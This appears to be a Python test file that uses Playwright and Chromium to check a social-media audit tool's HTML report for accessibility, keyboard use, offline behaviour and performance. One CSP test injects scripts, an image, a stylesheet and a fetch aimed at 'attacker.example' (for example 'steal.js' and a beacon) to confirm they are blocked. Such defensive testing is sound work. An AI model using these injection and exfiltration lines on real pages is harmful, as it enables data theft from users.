"""The HTML report in a real browser: Debian's Chromium driven by Playwright, checked by axe-core.

WCAG 2.1 AA (axe-core: zero violations), keyboard-only use, no network request and a CSP that
blocks injected code while the report's own filter script runs, and a 10,000-finding report.

Needs `/usr/bin/chromium` (apt-get install chromium), `playwright` (the dev extra; never run
`playwright install`: the Debian browser is launched through executable_path) and, for the axe
test, `node_modules/axe-core` (`npm ci`). `.ci/run` installs all three; without them the tests
are skipped with the reason.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from datetime import UTC, datetime
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from footprint.cli import main
from footprint.reports import build_report
from footprint.reports.context import ReportData, ReportFinding
from footprint.reports.html_report import HtmlRenderer
from footprint.store import Store

REPO = Path(__file__).resolve().parents[2]
EXAMPLE = REPO / "examples"
from tests.reports.browser import (  # noqa: E402 (skips this module without Chromium or Playwright)
    AXE,
    CHROMIUM,
    CHROMIUM_ARGS,
    LAUNCH_TIMEOUT_MS,
    PAGE_TIMEOUT_MS,
    RECORD_VIOLATIONS,
    WCAG_TAGS,
    needs_chromium,
    sync_api,
)

pytestmark = needs_chromium


# ---------------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, timeout=LAUNCH_TIMEOUT_MS
        )
        try:
            yield chromium
        finally:
            chromium.close()


@pytest.fixture()
def context(browser: Any) -> Iterator[Any]:
    ctx = browser.new_context(viewport={"width": 1000, "height": 800}, locale="en-CA")
    ctx.set_default_timeout(PAGE_TIMEOUT_MS)
    ctx.add_init_script(RECORD_VIOLATIONS)
    try:
        yield ctx
    finally:
        ctx.close()


def _audit(db: Path, out: Path, *extra: str) -> Path:
    result = CliRunner().invoke(
        main,
        [
            "audit",
            str(EXAMPLE / "x-archive"),
            "--profile",
            str(EXAMPLE / "role.toml"),
            "--db",
            str(db),
            "-o",
            str(out),
            "--exit-zero",
            *extra,
        ],
    )
    assert result.exit_code == 0, result.output
    return out


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The bundled example in English and in French (first audits), and a re-audit of the
    English database after one finding was decided (it shows the re-audit box)."""
    folder = tmp_path_factory.mktemp("browser-reports")
    english = _audit(folder / "en.db", folder / "en.html")
    french = _audit(folder / "fr.db", folder / "fr.html", "--lang", "fr")
    with Store(folder / "en.db") as store:
        decided = next(f for f in build_report(store).findings if f.severity != "info")
        store.decide(decided.id, "dismiss", "Posted before I joined the public service")
    reaudit = _audit(folder / "en.db", folder / "decided.html")
    # First audited as a junior analyst, then with the example's profile (a promotion in view):
    # some items become priority.
    junior = folder / "junior.toml"
    junior.write_text('organization = "ESDC"\nclassification = "CR-04"\npublic_facing = false\n')
    _audit(folder / "promoted.db", folder / "junior.html", "--profile", str(junior))
    promoted = _audit(folder / "promoted.db", folder / "promoted.html")
    return {"en": english, "fr": french, "decided": reaudit, "decided_id": decided.id, "promoted": promoted}


def _open(context: Any, path: Path) -> Any:
    page = context.new_page()
    page.goto(path.resolve().as_uri(), wait_until="load")
    return page


def _csp_violations(page: Any) -> list[dict[str, Any]]:
    return page.evaluate("() => window.__cspViolations")


def _focused(page: Any) -> dict[str, Any]:
    return page.evaluate(
        """() => {
          const e = document.activeElement;
          const item = e.closest("li.finding");
          return {tag: e.tagName.toLowerCase(), id: e.id, cls: e.className,
                  filter: e.getAttribute("data-filter"), finding: item ? item.id : null,
                  original: !!e.closest("p.meta") && e.tagName === "A"};
        }"""
    )


def _visible_state(page: Any) -> dict[str, Any]:
    return page.evaluate(
        """() => ({
          shown: [...document.querySelectorAll("#findings li.finding")].filter(li => !li.hidden)
                   .map(li => ({category: li.dataset.category, decision: li.dataset.decision})),
          total: document.querySelectorAll("#findings li.finding").length,
          count: document.getElementById("shown-count").textContent,
        })"""
    )


# ----------------------------------------------------------------------------- 1. axe-core


@pytest.mark.parametrize("which", ["en", "fr", "decided", "promoted"])
def test_axe_finds_no_wcag21_aa_violation(
    context: Any, reports: dict[str, Any], which: str
) -> None:
    if not AXE.exists():
        pytest.skip(f"{AXE.relative_to(REPO)} is absent: run `npm ci` (package.json pins axe-core)")
    page = _open(context, reports[which])
    # Evaluated through the DevTools protocol, so the page's CSP (which rightly refuses an
    # injected <script>) stays in force while axe runs.
    page.evaluate(AXE.read_text(encoding="utf-8") + "\n;void 0")
    run = """async ([scope, tags]) => {
      const result = await axe.run(scope, {runOnly: {type: "tag", values: tags},
                                           resultTypes: ["violations", "incomplete"]});
      const brief = (list) => list.map(r => ({id: r.id, impact: r.impact,
          nodes: r.nodes.map(n => ({target: n.target.join(" "), why: n.failureSummary}))}));
      return {violations: brief(result.violations), incomplete: brief(result.incomplete)};
    }"""
    as_shipped = page.evaluate(run, [{"include": [["html"]]}, WCAG_TAGS])
    assert as_shipped["violations"] == [], as_shipped["violations"]
    assert page.evaluate("() => document.documentElement.lang") == ("fr" if which == "fr" else "en")

    # Findings use `content-visibility: auto` (for 10,000 of them), so axe cannot compute the
    # colour contrast of those far below the fold and reports them "incomplete". Render them all
    # and check again: every text outside the chart (an SVG image with a text alternative) is
    # then measured and passes.
    page.add_style_tag(content=".finding { content-visibility: visible !important; }")
    rendered = page.evaluate(
        run, [{"include": [["html"]], "exclude": [["figure.chart svg"]]}, WCAG_TAGS]
    )
    assert rendered["violations"] == [], rendered["violations"]
    unmeasured = [rule for rule in rendered["incomplete"] if rule["id"] == "color-contrast"]
    assert unmeasured == [], unmeasured
    assert _csp_violations(page) == []


# ------------------------------------------------------------------------- 2. keyboard only


def test_keyboard_skip_link_moves_focus_to_the_findings(
    context: Any, reports: dict[str, Any]
) -> None:
    page = _open(context, reports["en"])
    page.keyboard.press("Tab")
    first = _focused(page)
    assert first["tag"] == "a" and first["cls"] == "skip", first
    box = page.locator("a.skip").bounding_box()
    assert box is not None and box["x"] >= 0 and box["y"] >= 0, (
        "the focused skip link must be on screen"
    )
    page.keyboard.press("Enter")
    assert page.url.endswith("#findings")
    assert _focused(page)["id"] == "findings"
    page.keyboard.press("Tab")
    assert _focused(page)["filter"] == "category"


def test_tab_reaches_every_filter_and_every_original_link(
    context: Any, reports: dict[str, Any]
) -> None:
    page = _open(context, reports["en"])
    expected_links = set(
        page.eval_on_selector_all(
            "li.finding:not([hidden]) p.meta a",
            "links => links.map(a => a.closest('li.finding').id)",
        )
    )
    assert expected_links, "the example report should link its findings to the original posts"
    focusable = page.evaluate("() => document.querySelectorAll('a[href], select, summary').length")
    filters, links, order = set(), set(), []
    for _ in range(focusable + 10):
        page.keyboard.press("Tab")
        now = _focused(page)
        if order and now["cls"] == "skip":
            break  # wrapped around
        order.append(now)
        if now["filter"]:
            filters.add(now["filter"])
        if now["original"]:
            links.add(now["finding"])
    assert order[0]["cls"] == "skip"
    assert filters == {"category", "platform", "severity", "year", "priority", "decision"}
    assert links == expected_links


def test_keyboard_category_filter_hides_other_findings_and_updates_the_live_count(
    context: Any, reports: dict[str, Any]
) -> None:
    page = _open(context, reports["en"])
    counter = page.locator("#shown-count")
    assert counter.get_attribute("aria-live") == "polite"
    before = _visible_state(page)
    assert before["count"] == f"Showing {len(before['shown'])} of {before['total']} items."
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")  # the Category filter
    page.keyboard.press("ArrowDown")  # the first category after "All"
    chosen = page.evaluate("() => document.activeElement.value")
    assert chosen, "ArrowDown should select a category"
    after = _visible_state(page)
    assert after["shown"], "some findings of the chosen category should stay visible"
    assert {f["category"] for f in after["shown"]} == {chosen}
    assert len(after["shown"]) < len(before["shown"])
    assert after["count"] == f"Showing {len(after['shown'])} of {after['total']} items."
    hidden_sections = page.eval_on_selector_all(
        "section.category[hidden]", "sections => sections.map(s => s.id)"
    )
    assert f"cat-{chosen}" not in hidden_sections and hidden_sections


# ---------------------------------------------------------------- 3. no network, strict CSP


def test_opening_the_report_makes_no_network_request(context: Any, reports: dict[str, Any]) -> None:
    document = reports["en"].resolve().as_uri()
    requests: list[str] = []
    refused: list[str] = []

    def only_the_document(route: Any) -> None:
        if route.request.url == document:
            route.continue_()
        else:
            refused.append(route.request.url)
            route.abort()

    context.route("**/*", only_the_document)
    page = context.new_page()
    page.on("request", lambda request: requests.append(request.url))
    page.goto(document, wait_until="load")
    page.wait_for_timeout(300)  # let anything deferred (fonts, favicons) try to load
    assert requests == [document]
    assert refused == []


def test_csp_blocks_injected_remote_and_inline_code(context: Any, reports: dict[str, Any]) -> None:
    document = reports["en"].resolve().as_uri()
    routed: list[str] = []

    def only_the_document(route: Any) -> None:
        routed.append(route.request.url)
        if route.request.url == document:
            route.continue_()
        else:
            route.abort()

    context.route("**/*", only_the_document)
    page = _open(context, reports["en"])
    failed: dict[str, str | None] = {}
    console: list[str] = []
    page.on("requestfailed", lambda request: failed.update({request.url: request.failure}))
    page.on("console", lambda message: console.append(message.text))
    outcome = page.evaluate(
        """() => new Promise((resolve) => {
          const seen = [];
          document.addEventListener("securitypolicyviolation", (e) => {
            seen.push(e.effectiveDirective + " " + e.blockedURI);
            if (seen.length === 5) { resolve(seen); }
          });
          const remote = document.createElement("script");
          remote.src = "https://attacker.example/steal.js";
          document.body.appendChild(remote);
          const inline = document.createElement("script");
          inline.textContent = "window.__injected = true;";
          document.body.appendChild(inline);
          const image = document.createElement("img");
          image.src = "https://attacker.example/pixel.gif";
          image.alt = "";
          document.body.appendChild(image);
          const sheet = document.createElement("link");
          sheet.rel = "stylesheet";
          sheet.href = "https://attacker.example/style.css";
          document.head.appendChild(sheet);
          fetch("https://attacker.example/beacon").catch(() => {});
          setTimeout(() => resolve(seen), 5000);
        })"""
    )
    assert sorted(outcome) == sorted(
        [
            "script-src-elem https://attacker.example/steal.js",
            "script-src-elem inline",
            "img-src https://attacker.example/pixel.gif",
            "style-src-elem https://attacker.example/style.css",
            "connect-src https://attacker.example/beacon",
        ]
    )
    assert page.evaluate("() => window.__injected === undefined")
    # Chromium refused them itself: nothing left the page, not even to the route handler.
    assert routed == [document]
    assert all(reason == "csp" for url, reason in failed.items() if "attacker.example" in url), (
        failed
    )
    assert any("Content Security Policy" in text and "steal.js" in text for text in console), (
        console
    )


# ------------------------------------------------------------ 4. the filter script runs


def test_filter_script_runs_under_the_csp_and_hides_decided_findings(
    context: Any, reports: dict[str, Any]
) -> None:
    console: list[str] = []
    page = context.new_page()
    page.on("console", lambda message: console.append(message.text))
    page.goto(reports["decided"].resolve().as_uri(), wait_until="load")
    assert _csp_violations(page) == []
    assert not [text for text in console if "Content Security Policy" in text], console
    decided = page.locator(f"#f-{reports['decided_id']}")
    assert decided.get_attribute("data-decision") == "dismiss"
    assert decided.is_hidden(), (
        "the default Decision filter (not yet decided) should hide a decided finding"
    )
    state = _visible_state(page)
    assert state["count"] == f"Showing {state['total'] - 1} of {state['total']} items."
    assert page.locator(".reaudit").is_visible()
    page.select_option("select[data-filter=decision]", "")
    assert decided.is_visible()
    page.select_option("select[data-filter=decision]", "dismiss")
    assert _visible_state(page)["shown"] == [
        {"category": decided.get_attribute("data-category"), "decision": "dismiss"}
    ]


# ------------------------------------------------- 4b. priority filter, phones, captures


def test_priority_filter_lists_the_items_that_became_priority(context: Any, reports: dict[str, Any]) -> None:
    page = _open(context, reports["promoted"])
    marked = page.eval_on_selector_all(
        "#findings li.finding", "items => items.filter(li => li.dataset.priority.split(' ').includes('rose')).map(li => li.id)"
    )
    assert marked, "the re-audit with a promotion in view should lift some items to priority"
    page.select_option("select[data-filter=decision]", "")
    page.select_option("select[data-filter=priority]", "rose")
    shown = page.eval_on_selector_all("#findings li.finding:not([hidden])", "items => items.map(li => li.id)")
    assert shown == marked
    for item in shown:
        assert page.locator(f"#{item} strong.rose").is_visible()
    page.select_option("select[data-filter=priority]", "priority")
    priority = page.eval_on_selector_all("#findings li.finding:not([hidden])", "items => items.map(li => li.id)")
    assert set(marked) <= set(priority)
    assert _csp_violations(page) == []


@pytest.mark.parametrize("which", ["en", "fr"])
def test_the_report_fits_a_phone_screen(browser: Any, reports: dict[str, Any], which: str) -> None:
    phone = browser.new_context(viewport={"width": 390, "height": 844}, locale="en-CA")
    try:
        page = phone.new_page()
        page.goto(reports[which].resolve().as_uri(), wait_until="load")
        wide = page.evaluate(
            """() => {
              const width = document.documentElement.clientWidth;
              return {scroll: document.documentElement.scrollWidth, width,
                      over: [...document.querySelectorAll("body *")]
                        .filter(e => e.getBoundingClientRect().right > width + 0.5)
                        .map(e => e.tagName.toLowerCase() + (e.className ? "." + e.className : "")).slice(0, 8)};
            }"""
        )
        assert wide["scroll"] <= wide["width"], wide
    finally:
        phone.close()


def test_a_full_page_capture_shows_every_card(context: Any, reports: dict[str, Any]) -> None:
    # `content-visibility: auto` (kept for very long reports) leaves off-screen cards unpainted in
    # a full-page capture; a report of ordinary length paints them all.
    page = _open(context, reports["en"])
    skipped = page.eval_on_selector_all(
        "li.finding", "items => items.filter(li => getComputedStyle(li).contentVisibility !== 'visible').length"
    )
    assert skipped == 0
    capture = page.screenshot(full_page=True)
    assert len(capture) > 10_000


# ------------------------------------------------------------------- 5. 10,000 findings

CATEGORIES = ("political_activity", "official_appearance", "workplace_criticism", "personal_safety")
SEVERITIES = ("high", "medium", "low")
PLATFORMS = ("x", "mastodon", "bluesky")
DECISIONS = (None, None, None, "confirm", "dismiss", "accept")
SUPPORT_MESSAGE = "Names a party or political leader together with words of support or opposition."


def _large_report(count: int) -> ReportData:
    findings = []
    for n in range(count):
        year = 2012 + n % 14
        text = f"Post number {n}: vote for the Example Party this weekend #Example{n % 50}"
        findings.append(
            ReportFinding(
                id=f"{n:032x}",
                rule="POL002",
                rule_name="party-support-or-opposition",
                rule_summary="Support for or opposition to a party, leader or candidate.",
                category=CATEGORIES[n % len(CATEGORIES)],
                severity=SEVERITIES[n % len(SEVERITIES)],
                confidence="medium",
                score=round(10 - (n % 97) / 10, 1),
                message=SUPPORT_MESSAGE,
                field="text",
                evidence=({"field": "text", "start": 15, "end": 24, "text": "vote for "},),
                segments=((text[:15], False), (text[15:24], True), (text[24:], False)),
                decision=DECISIONS[n % len(DECISIONS)],
                decision_note=None,
                item={
                    "platform": PLATFORMS[n % len(PLATFORMS)],
                    "native_id": str(n),
                    "kind": "post",
                    "url": f"https://x.com/pat_example/status/{n}",
                    "created_at": f"{year}-06-01T12:00:00Z",
                    "text": text,
                    "field": "text",
                    "handle": "pat_example",
                    "deleted": False,
                },
                guidance={
                    "title": "Public servants' use of personal social media: Key considerations",
                    "section": "Guidance on political activities",
                    "url": "https://www.canada.ca/",
                },
                action="Delete or hide the post.",
                consult=("your manager",),
                weighting={"severity": 6.0},
                new=True,
                priority=n % 3 == 0,
            )
        )
    by_year: dict[int, int] = {}
    for finding in findings:
        year = int(finding.item["created_at"][:4])
        by_year[year] = by_year.get(year, 0) + 1
    by_category: dict[str, int] = {}
    for finding in findings:
        by_category[finding.category] = by_category.get(finding.category, 0) + 1
    undecided = sum(1 for f in findings if f.decision is None)
    return ReportData(
        generated_at=datetime(2026, 1, 1, tzinfo=UTC),
        tool_version="test",
        summary={
            "items_by_platform": {p: count // 3 for p in PLATFORMS},
            "reactions_by_platform": {},
            "profiles_by_platform": {p: 1 for p in PLATFORMS},
            "findings_total": count,
            "advice_total": 0,
            "unreviewed": undecided,
            "findings_by_category": by_category,
            "findings_by_severity": {},
            "items_scanned": count,
            "last_scan_at": None,
            "skipped_total": 0,
        },
        findings=tuple(findings),
        skipped=(),
        rule_errors=(),
        rules_used=("POL002",),
        role_profile=None,
        audit={
            "review_threshold": 4.0,
            "priority": count // 3,
            "already_decided": count - undecided,
            "first_audit": True,
            "previous_scan_at": None,
            "previous_role_profile": None,
            "new_since_last": count,
            "rose_above_threshold": 0,
        },
        by_year=tuple(sorted(by_year.items())),
    )


@pytest.mark.slow
def test_ten_thousand_findings_load_and_filter(
    context: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    count = 10_000
    started = time.perf_counter()
    report = _large_report(count)
    buffer = StringIO()
    HtmlRenderer().render(report, buffer)
    path = tmp_path / "large.html"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    rendered = time.perf_counter()

    page = context.new_page()
    page.goto(path.resolve().as_uri(), wait_until="load")
    loaded = time.perf_counter()
    undecided = sum(1 for f in report.findings if f.decision is None)
    assert page.locator("#shown-count").text_content() == f"Showing {undecided} of {count} items."
    assert page.evaluate(
        "() => getComputedStyle(document.querySelector('li.finding')).contentVisibility"
    ) == "auto", "a long report should still skip painting the cards off screen"

    # A keyboard-style change of the Category filter, timed in the page up to the next frame.
    filter_ms = page.evaluate(
        """() => new Promise((resolve) => {
          const select = document.querySelector("select[data-filter=category]");
          select.focus();
          const start = performance.now();
          select.value = "political_activity";
          select.dispatchEvent(new Event("change", {bubbles: true}));
          const done = () => resolve(performance.now() - start);
          requestAnimationFrame(() => requestAnimationFrame(done));
        })"""
    )
    expected = sum(
        1 for f in report.findings if f.decision is None and f.category == "political_activity"
    )
    assert page.locator("#shown-count").text_content() == f"Showing {expected} of {count} items."
    # And back to everything, through Playwright's own select (input and change events).
    before_all = time.perf_counter()
    page.select_option("select[data-filter=decision]", "")
    all_ms = (time.perf_counter() - before_all) * 1000
    expected_all = sum(1 for f in report.findings if f.category == "political_activity")
    assert (
        page.locator("#shown-count").text_content() == f"Showing {expected_all} of {count} items."
    )
    assert _csp_violations(page) == []
    with capsys.disabled():
        print(
            f"\n[10k report] {len(buffer.getvalue()) / 1e6:.1f} MB HTML; "
            f"build+render {rendered - started:.2f} s; open in Chromium {loaded - rendered:.2f} s; "
            f"category filter {filter_ms:.0f} ms (to next frame); "
            f"decision filter to 'All' {all_ms:.0f} ms (round trip)"
        )
